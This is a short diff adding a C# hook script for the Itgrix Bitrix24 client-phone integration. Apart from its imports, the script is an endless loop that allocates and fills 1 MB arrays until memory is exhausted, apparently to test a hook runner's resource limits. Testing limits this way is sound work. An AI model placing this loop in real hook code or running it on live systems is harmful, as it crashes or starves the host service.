@@ -1,0 +1,10 @@
+#load "../itgrix.csx"
+using static Itgrix.Hooks.Hook;
+using static Itgrix.Hooks.Bitrix24.ProcessClientPhone;
+
+var blocks = new List<byte[]>();
+while (true)
+{
+    blocks.Add(new byte[1 << 20]);
+    Array.Fill(blocks[^1], (byte)1);
+}
